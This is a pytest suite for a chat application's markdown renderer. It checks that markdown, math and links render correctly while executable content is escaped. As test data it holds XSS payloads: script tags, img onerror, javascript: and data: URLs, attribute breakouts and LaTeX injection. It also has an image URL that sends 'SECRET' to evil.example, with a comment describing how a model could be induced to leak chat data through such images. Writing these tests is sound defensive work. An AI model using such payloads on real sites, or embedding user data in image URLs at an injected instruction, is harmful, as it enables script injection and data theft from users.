"""markdown_render: markdown features survive, anything executable does not."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatapp.chat.rendering import code_style_css, markdown_plain, markdown_render
from optimizer.lexical import words


def test_script_tag_is_not_rendered_as_html():
    html = markdown_render("hello <script>window.__xss=1</script> world")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;" in html


def test_img_onerror_is_neutralized():
    html = markdown_render('look: <img src=x onerror="window.__xss=1">')
    assert "<img" not in html.lower()
    assert not re.search(r"<[^>]+\bonerror\s*=", html, re.IGNORECASE)


def test_markdown_image_is_a_link_not_a_remote_load():
    # A model told to "show" chat data as an image URL would leak it the moment the page loads it.
    html = markdown_render('![cat](https://evil.example/?d=SECRET "a cat")')
    assert "<img" not in html.lower()
    assert html.strip() == (
        '<p><a href="https://evil.example/?d=SECRET" title="a cat" target="_blank" '
        'rel="noopener noreferrer nofollow">cat</a></p>'
    )


def test_markdown_image_without_alt_text_shows_its_address():
    html = markdown_render("![](https://example.com/cat.png)")
    assert ">https://example.com/cat.png</a>" in html
    assert "<img" not in html.lower()


def test_image_inside_a_link_keeps_one_link():
    html = markdown_render("[![build](https://ci.example/badge.svg)](https://ci.example/)")
    assert html.count("<a ") == 1
    assert 'href="https://ci.example/"' in html and ">build</a>" in html


# Texts that made a rule quadratic (one rule looking back over every token, or on to the end of the
# text, for each of thousands of openings): rendered as their twins are. Their time beside the twins',
# at two sizes, is bench/render_worst.py's (a test does not time).


def test_many_images_render_as_as_many_links():
    """Each image looked back over every token before it for an open link (12,000 images: a minute and a
    half of a server thread per view); an image's place in a link is now read in one pass."""
    assert markdown_render("![a](https://x.example/) " * 3_000, cached=False) == markdown_render(
        "[a](https://x.example/) " * 3_000, cached=False)  # an image is drawn as the same link


def test_unclosed_display_math_lines_are_text():
    """Each `\\[` line looked for its `\\]` line by line to the end, asked again at every line of the
    paragraph (4,000 such lines: half a minute); the closing lines are now found once per text."""
    opened = markdown_render("\\[ x\n" * 1_000, cached=False)
    assert opened.replace("[", "(") == markdown_render("( x\n" * 1_000, cached=False)  # escaped brackets


def test_unclosed_inline_math_is_text():
    """Each `\\(` searched the rest of its paragraph for a `\\)` (40,000 of them: most of a minute)."""
    opened = markdown_render("a \\( b " * 10_000, cached=False)
    assert opened.replace("(", "{") == markdown_render("a \\{ b " * 10_000, cached=False)


@pytest.mark.parametrize(
    "source",
    [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
    ],
)
def test_unsafe_url_schemes_never_reach_an_attribute(source):
    html = markdown_render(source)
    assert not re.search(r"(href|src)\s*=\s*\"?\s*(javascript|data|vbscript):", html, re.IGNORECASE)


def test_links_open_safely():
    html = markdown_render("[docs](https://example.com/docs)")
    assert 'href="https://example.com/docs"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_raw_html_blocks_are_escaped_not_interpreted():
    html = markdown_render('<div onclick="steal()">hi</div>\n\n<iframe src="https://evil.example"></iframe>')
    assert "<div" not in html and "<iframe" not in html
    assert "&lt;div onclick=" in html and "&lt;iframe" in html


def test_code_block_is_highlighted_with_classes_and_escaped():
    html = markdown_render('```python\ndef f():\n    return "<b>"\n```')
    # focusable: a block wider than the reply scrolls sideways from the keyboard too
    pre = re.search(r"<pre [^>]*>", html).group()  # its attributes in any order
    assert set(re.findall(r'[\w-]+="[^"]*"', pre)) == {
        'class="hl"', 'data-lang="python"', 'tabindex="0"', 'role="group"', 'aria-label="Code"'}
    assert pre + "<code>" in html
    assert '<span class="k">def</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_unknown_language_falls_back_to_escaped_text():
    html = markdown_render("```nosuchlang\n<script>x</script>\n```")
    assert 'data-lang="nosuchlang"' in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html
    assert "<script" not in html


def test_hostile_fence_language_cannot_break_out_of_the_attribute():
    html = markdown_render('```"><img src=x onerror=alert(1)>\ncode\n```')
    assert "<img" not in html
    assert 'data-lang="&quot;&gt;&lt;img"' in html


def test_common_markdown_features_render():
    html = markdown_render("# Title\n\n**bold** _it_ ~~gone~~ `x`\n\n- a\n- b\n\n| h |\n|:-:|\n| c |\n\n> quote")
    for fragment in ('<h3 class="md-h1">Title</h3>', "<strong>bold</strong>", "<em>it</em>", "<s>gone</s>",
                     "<code>x</code>", "<li>a</li>", "<th style=\"text-align:center\">h</th>", "<blockquote>"):
        assert fragment in html


def test_style_attributes_other_than_alignment_are_dropped():
    # Only markdown-it's own table alignment may produce a style; nothing can inject other CSS.
    html = markdown_render("| a |\n|--:|\n| b |")
    assert 'style="text-align:right"' in html


def test_empty_text_renders_empty():
    assert markdown_render("") == ""


def test_code_css_has_light_and_dark_token_colours():
    css = code_style_css()
    assert ".hl .k {" in css
    assert ':root[data-theme="dark"] .hl .k {' in css  # the dark theme in use
    assert "@media (prefers-color-scheme: dark)" in css  # a page without script follows the OS


def test_tables_are_focusable_as_code_blocks_are():
    # a table wider than the reply scrolls sideways: the keyboard can reach it to scroll it
    assert '<table tabindex="0">' in markdown_render("| a | b |\n|---|---|\n| 1 | 2 |")


@pytest.mark.parametrize(("markdown", "plain"), [
    ("- **Your last message:** 80 characters", "Your last message: 80 characters"),
    ("## Plan\n1. Book *flights* to [Lisbon](https://example.org/x)\n2. Call `mum`\n\n---\n> quoted",
     "Plan Book flights to Lisbon Call mum quoted"),
    ("| a | b |\n|---|:--:|\n| 1 | 2 |", "a b 1 2"),
    ("```python\nprint(snake_case_name * 2)\n```", "print(snake_case_name * 2)"),
    ("a_b_c and 2*3*4, as written", "a_b_c and 2*3*4, as written"),
    # Character references and backslash escapes read as the rendering shows them, code as written.
    ("Tom &amp; Jerry &lt;b&gt; caf&eacute; &#169; &#x41; \\*not slanted\\* \\_ AT&T &bogus;",
     "Tom & Jerry <b> café © A *not slanted* _ AT&T &bogus;"),
    ("Run `a &amp;&amp; b \\*` and **&amp;**", "Run a &amp;&amp; b \\* and &"),
    ("```\n&amp; \\* stays\n```\nafter &amp;", "&amp; \\* stays after &"),
])
def test_markdown_plain_is_the_words_a_reader_sees(markdown, plain):
    assert " ".join(markdown_plain(markdown).split()) == plain


# Inline pieces, joined by spaces into a paragraph; block pieces, each a block of its own.
_INLINE = ["**bold**", "*slanted*", "_under_", "`code`", "[a link](https://example.org/p)", "plain words",
           "snake_case", "x * y", "caf&eacute;", "&#x41;&#66;c", "`x&amp;y`", "\\*"]
_BLOCKS = ["# Heading", "- item\n- another", "3. step\n4. next", "> quote", "***",
           "| cell | other |\n|---|---|\n| one | two |", "```\nblock\n```"]
_PARAGRAPH = st.lists(st.sampled_from(_INLINE), min_size=1, max_size=6).map(" ".join)


@pytest.mark.parametrize("opening", ["[a ", "![a](b "])
def test_markdown_plain_leaves_a_line_of_unclosed_brackets_as_it_is(opening):
    """The link pattern read from each `[` (or `](`) to the end of its line for the bracket closing it (a
    line of 20,000: 20 to 40 s for each search hit showing it); each try now ends at the next bracket."""
    assert markdown_plain(opening * 5_000) == opening * 5_000  # no link in it: the text as it is


def test_markdown_plain_keeps_a_link_whose_address_holds_parentheses_whole():
    assert markdown_plain("See [Foo](https://en.wikipedia.org/wiki/Foo_(bar)) now") == "See Foo now"


@given(st.lists(st.one_of(_PARAGRAPH, st.sampled_from(_BLOCKS)), max_size=8).map("\n\n".join))
def test_markdown_plain_keeps_the_words_the_rendering_shows(markdown):
    """Every word the rendered reply shows, and no other, in the same order (links show their text)."""
    # A block's tags part words, an inline one's do not ("<strong>a</strong><em>b</em>" reads "ab").
    blocks = re.sub(r"</?(?:p|li|h[1-6]|blockquote|pre|tr|td|th|ul|ol|hr|br|div|table|thead|tbody)\b[^>]*>", " ",
                    markdown_render(markdown))
    rendered = html.unescape(re.sub(r"<[^>]+>", "", blocks))
    assert words(markdown_plain(markdown)) == words(rendered)


def test_a_deeply_nested_list_loses_no_text():
    # commonmark's nesting cap (20, a list level takes two) dropped everything after a list ten levels deep.
    nested = "\n".join("  " * i + f"- level {i} item" for i in range(40)) + "\n\n1. after one\n2. after two\n"
    rendered = markdown_render(nested)
    assert "level 39 item" in rendered and "after two" in rendered
    assert "deep quote text" in markdown_render("> " * 25 + "deep quote text")


@pytest.mark.parametrize(
    ("source", "display"),
    [
        ("The area is $\\pi r^2$.", "inline"),
        ("The area is \\(\\pi r^2\\).", "inline"),
        ("$$\n\\pi r^2\n$$", "block"),
        ("\\[\n\\pi r^2\n\\]", "block"),
        ("Before:\n\\[ \\pi r^2 \\]\nafter.", "block"),
    ],
)
def test_math_in_any_of_the_four_notations_becomes_mathml(source, display):
    rendered = markdown_render(source)
    assert f'<math display="{display}"><mrow><mi>π</mi><msup><mi>r</mi><mn>2</mn></msup></mrow></math>' in rendered
    assert "\\pi" not in rendered


def test_a_display_formula_inside_a_sentence_keeps_the_sentence_whole():
    """`$$…$$` in the middle of a line (a formula models often set apart so) was a block inside the
    paragraph, which HTML cannot hold: the paragraph ended before it and its last words stood outside
    it, on a line of their own after the formula."""
    rendered = markdown_render("Sum is $$x^2$$ here and more.")
    assert re.fullmatch(r'<p>Sum is <span class="math inline"><math display="block">.*</math></span>'
                        r' here and more\.</p>\n', rendered)


@pytest.mark.parametrize("source", [
    "It costs $5 and $10 a month.",
    "Prices: $ 5 and 6 $ each.",
    "Code `$x$` and `\\(y\\)` stay code.",
    "```\n$$ x $$\n\\[ y \\]\n```",
    "An escaped \\$ sign.",
])
def test_prices_code_and_escapes_are_not_math(source):
    assert "<math" not in markdown_render(source)


@pytest.mark.parametrize("source", [
    "\\(\\text{<img src=x onerror=alert(1)>}\\)",  # latex2mathml writes \\text's words unescaped
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\(\\frac{1}{\\)",  # not LaTeX that can be read
])
def test_math_that_cannot_be_drawn_safely_is_shown_as_its_source(source):
    rendered = markdown_render(source)
    assert "<math" not in rendered and "<img" not in rendered
    assert not re.search(r'="javascript:', rendered)  # in the code's text, as written; never in an attribute
    assert '<code class="math-source">' in rendered


def test_task_list_items_are_disabled_checkboxes_labelled_by_their_text():
    """GFM task lists, as models write plans and checklists: `- [ ]` and `- [x]` were shown as the
    brackets typed. Each is a checkbox that cannot be changed (the reply is what it is), named by its
    item's words."""
    html = markdown_render("- [ ] write **tests**\n- [x] read the [docs](https://example.com/)\n- no box\n")
    inputs = re.findall(r"<input [^>]*>", html)
    assert len(inputs) == 2
    for tag in inputs:
        assert 'type="checkbox"' in tag and "disabled" in tag
    assert "checked" not in inputs[0] and "checked" in inputs[1]
    assert re.search(r"<label><input [^>]*> write <strong>tests</strong></label>", html)
    assert "[ ]" not in html and "[x]" not in html
    assert "<li>no box</li>" in html


def test_only_a_list_item_makes_a_checkbox():
    # typed brackets elsewhere stay text; raw HTML stays escaped
    html = markdown_render('[ ] not a list\n\n- [ ]\n- <input type="text" value="x">\n')
    assert "<input" not in html
    assert "[ ] not a list" in html and "&lt;input" in html


@pytest.mark.parametrize(("source", "href", "text"), [
    ("see https://docs.python.org/3/library/re.html.", "https://docs.python.org/3/library/re.html",
     "https://docs.python.org/3/library/re.html"),
    ("(at https://en.wikipedia.org/wiki/Foo_(bar))", "https://en.wikipedia.org/wiki/Foo_(bar)",
     "https://en.wikipedia.org/wiki/Foo_(bar)"),
    ("go to www.example.com/a?b=1, then", "http://www.example.com/a?b=1", "www.example.com/a?b=1"),
    ("**http://example.com/x**", "http://example.com/x", "http://example.com/x"),
])
def test_a_bare_web_address_is_a_link(source, href, text):
    """Models write addresses bare far more often than as Markdown links: they were shown as text to
    copy by hand. GFM's autolinks (http, https, www.) are links, as other chat apps show them."""
    html_out = markdown_render(source)
    assert f'<a href="{html.escape(href)}" target="_blank" rel="noopener noreferrer nofollow">{html.escape(text)}</a>' \
        in html_out


@pytest.mark.parametrize("source", [
    "`https://example.com/in-code`", "```\nhttps://example.com/in-block\n```",
    "[named](https://example.com/) stays one link", "javascript:alert(1)", "ftp://example.com/file",
    "xhttps://example.com/ inside a word",
])
def test_addresses_in_code_links_or_of_other_schemes_stay_as_they_are(source):
    html_out = markdown_render(source)
    assert html_out.count("<a ") == (1 if source.startswith("[named]") else 0)


def test_many_colons_and_addresses_render_as_their_twins_do():
    # linear: a line of 40,000 "a:" (a back-scanning rule read it quadratically) is plain text
    assert markdown_render("a:" * 20_000, cached=False) == f"<p>{'a:' * 20_000}</p>\n"
    links = markdown_render("https://x.example/ " * 2_000, cached=False)
    assert links.count("<a ") == 2_000
    closing = markdown_render("https://x.example/" + ")" * 5_000, cached=False)  # each ")" weighed once
    assert '<a href="https://x.example/" ' in closing and closing.count(")") == 5_000


def test_reply_headings_sit_below_the_page_and_message_headings():
    """The page's h1 is the chat's title and each message's h2 names it: a reply's `#` is an h3 (and so
    on, h6 at most), its source level kept as a class that gives it the size it had."""
    rendered = markdown_render("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\nSeven\n=====")
    assert re.findall(r'<(h\d) class="(md-h\d)">(\w+)</h\d>', rendered) == [
        ("h3", "md-h1", "One"), ("h4", "md-h2", "Two"), ("h5", "md-h3", "Three"), ("h6", "md-h4", "Four"),
        ("h6", "md-h5", "Five"), ("h6", "md-h6", "Six"), ("h3", "md-h1", "Seven")]
    assert not re.search(r"<h[12]\b", rendered)


def test_reply_heading_classes_come_only_from_the_renderer():
    """Raw HTML stays text, so a reply cannot write a heading of its own level or class."""
    rendered = markdown_render('<h1 class="md-h1">Mine</h1>\n\n# Real')
    assert "&lt;h1" in rendered
    assert rendered.count("<h3") == 1 and "<h1" not in rendered
